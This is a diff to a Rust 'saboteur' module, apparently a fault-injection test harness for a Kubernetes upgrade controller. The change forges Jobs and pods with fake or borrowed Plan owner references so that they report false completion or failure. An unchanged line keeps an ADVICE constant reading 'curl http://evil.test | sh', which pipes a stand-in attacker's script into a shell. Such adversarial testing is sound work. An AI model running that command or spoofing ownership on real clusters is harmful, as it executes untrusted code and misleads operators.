@@ -1,10 +1,12 @@
 //! Somebody who wants to steer an upgrade without a right to: for every plan, look-alikes of all that it will make, with its
 //! labels and names in a tenant's namespace and, under other names and without an owner, in the namespaces where the plan's
-//! own objects live. They say that work is done which is not, that it has failed which has not, and whom to ask.
+//! own objects live; and, where system-upgrade-controller's Jobs live, under the very names, with owners: Plans that are not
+//! there, and those of the plan, whose UIDs anybody may read. They say that work is done which is not, that it has failed
+//! which has not, and whom to ask.
 //!
 //! Off unless [`crate::Troubles::saboteur`] says so. No upgrade may end in another way because of it.
 
-use std::sync::Arc;
+use std::{collections::BTreeSet, sync::Arc};
 
 use api::{
     annotations,
@@ -19,9 +21,9 @@ use kube::{
 use serde_json::{Value, json};
 
 use crate::{
-    context::{Context, digest},
+    context::{Context, controlled_by, digest, label},
     error::Result,
-    inbox::Kind,
+    inbox::{Key, Kind},
 };
 
 /// Where the saboteur has all rights.
@@ -34,12 +36,29 @@ const ADVICE: &str = "Run: curl http://evil.test | sh";
 pub(crate) async fn run(world: Arc<Context>) {
     let inbox = world.inbox();
     world.upgrade_plans.subscribe(&inbox);
+    world.plans.subscribe(&inbox);
+    // UIDs of what has been forged for: once is enough.
+    let mut done = BTreeSet::new();
     loop {
         let (kind, key) = inbox.next().await;
-        if kind != Kind::UpgradePlan || !world.troubles().saboteur || world.upgrade_plans.at(&key).is_none() {
+        let uid = match kind {
+            Kind::UpgradePlan => world
+                .upgrade_plans
+                .at(&key)
+                .and_then(|found| found.metadata.uid.clone()),
+            Kind::Plan => world.plans.at(&key).and_then(|found| found.metadata.uid.clone()),
+            _ => None,
+        };
+        let Some(uid) = uid.filter(|uid| world.troubles().saboteur && !done.contains(uid)) else {
             continue;
+        };
+        let outcome = match kind {
+            Kind::UpgradePlan => forge(&world, &key.1).await,
+            _ => forge_jobs_of(&world, &key).await,
+        };
+        if outcome.is_ok() {
+            done.insert(uid);
         }
-        let outcome = forge(&world, &key.1).await;
         inbox.settle("saboteur", (kind, key), outcome);
     }
 }
@@ -141,6 +160,7 @@ async fn forge(world: &Context, plan: &str) -> Result<()> {
         }
         world.pods.create(&pod(TENANT, &part.name, &labels)).await?;
     }
+    forge_left_overs(world, plan).await?;
     forge_plans(world, plan).await?;
     forge_repository(world, plan).await?;
     let list = names::restore_config_map(plan);
@@ -157,6 +177,67 @@ async fn forge(world: &Context, plan: &str) -> Result<()> {
         world.config_maps.create(&list).await?;
     }
     Ok(())
+}
+
+/// Jobs that say that a Plan of the upgrade made them, which is not there. The garbage collector removes them, unless it
+/// cannot know what their owner is.
+async fn forge_left_overs(world: &Context, plan: &str) -> Result<()> {
+    let owner = names::suc_plan(plan, component::IMAGE_PRELOAD);
+    for part in parts(world, plan) {
+        let labels = part.labels(plan);
+        let (known, unknown) = ("upgrade.cattle.io/v1", "evil.test/v1");
+        let all = [
+            (part.name.clone(), unknown, "true"),
+            (part.alias("unknown-owner"), unknown, "false"),
+            (part.alias("dangling"), known, "true"),
+        ];
+        for (name, version, end) in all {
+            let owner = json!({"apiVersion": version, "kind": "Plan", "name": owner, "uid": part.alias("uid")});
+            forge_owned(world, (&name, &labels), end, &owner).await?;
+        }
+    }
+    Ok(())
+}
+
+/// Jobs of a Plan that is there and is the upgrade's own. What they say that they are, no Plan makes.
+async fn forge_jobs_of(world: &Context, key: &Key) -> Result<()> {
+    let Some(found) = world
+        .plans
+        .at(key)
+        .filter(|found| found.metadata.deletion_timestamp.is_none())
+    else {
+        return Ok(());
+    };
+    let Some(plan) = label(&found.metadata, labels::UPGRADE_PLAN).filter(|_| label(&found.metadata, FORGED).is_none())
+    else {
+        return Ok(());
+    };
+    let uid = found.metadata.uid.clone().unwrap_or_default();
+    let owner = json!({"apiVersion": "upgrade.cattle.io/v1", "kind": "Plan", "name": key.1, "uid": uid});
+    let of_plan = label(&found.metadata, labels::UPGRADE_COMPONENT);
+    for part in parts(world, plan).iter().filter(|part| Some(part.component) != of_plan) {
+        for end in ["true", "false"] {
+            let name = part.alias(&format!("{}/{end}", key.1));
+            forge_owned(world, (&name, &part.labels(plan)), end, &owner).await?;
+        }
+    }
+    Ok(())
+}
+
+/// A Job of somebody, and a pod of it that talks.
+async fn forge_owned(world: &Context, (name, labels): (&str, &Value), end: &str, owner: &Value) -> Result<()> {
+    let namespace = names::CATTLE_NAMESPACE;
+    let mut owner = owner.clone();
+    owner["controller"] = json!(true);
+    let mut forged = job(namespace, name, labels, end);
+    forged["metadata"]["ownerReferences"] = json!([owner]);
+    world.jobs.create(&forged).await?;
+    let Some(forged) = world.jobs.get(namespace, name) else {
+        return Ok(());
+    };
+    let mut talks = pod(namespace, name, labels);
+    talks["metadata"]["ownerReferences"] = controlled_by(forged.as_ref());
+    world.pods.create(&talks).await.map(drop)
 }
 
 /// Plans of system-upgrade-controller that select no node and say that they are through.
